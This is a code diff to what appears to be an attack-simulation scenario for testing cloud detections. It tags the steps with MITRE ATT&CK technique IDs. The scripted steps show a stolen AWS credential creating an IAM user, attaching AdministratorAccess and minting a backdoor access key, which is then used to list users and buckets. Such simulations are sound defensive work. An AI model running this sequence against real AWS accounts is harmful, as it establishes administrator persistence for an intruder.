@@ -33,24 +33,28 @@ export default defineScenario({
   attack: {
     'from the instance to a key used elsewhere': async (play) => {
       const thief = play.as(stolen)
-      await thief.send(new GetCallerIdentityCommand({}))
-      await thief.send(new CreateUserCommand({ UserName: 'backup-agent' }))
+      await thief.send(new GetCallerIdentityCommand({}), { technique: 'T1078.004' })
+      await thief.send(new CreateUserCommand({ UserName: 'backup-agent' }), {
+        technique: 'T1136.003',
+      })
       await thief.send(
         new AttachUserPolicyCommand({
           UserName: 'backup-agent',
           PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
         }),
+        { technique: 'T1098.003' },
       )
       const { AccessKey } = await thief.send(
         new CreateAccessKeyCommand({ UserName: 'backup-agent' }),
+        { technique: 'T1098.001' },
       )
       await play.wait(minutes(7))
       const backdoor = play.actor('backdoor', AccessKey, {
         place: 'singapore',
         client: awsCli({ os: 'ubuntu' }),
       })
-      await play.as(backdoor).send(new ListUsersCommand({}))
-      await play.as(backdoor).send(new ListBucketsCommand({}))
+      await play.as(backdoor).send(new ListUsersCommand({}), { technique: 'T1078.004' })
+      await play.as(backdoor).send(new ListBucketsCommand({}), { technique: 'T1078.004' })
     },
   },
 })
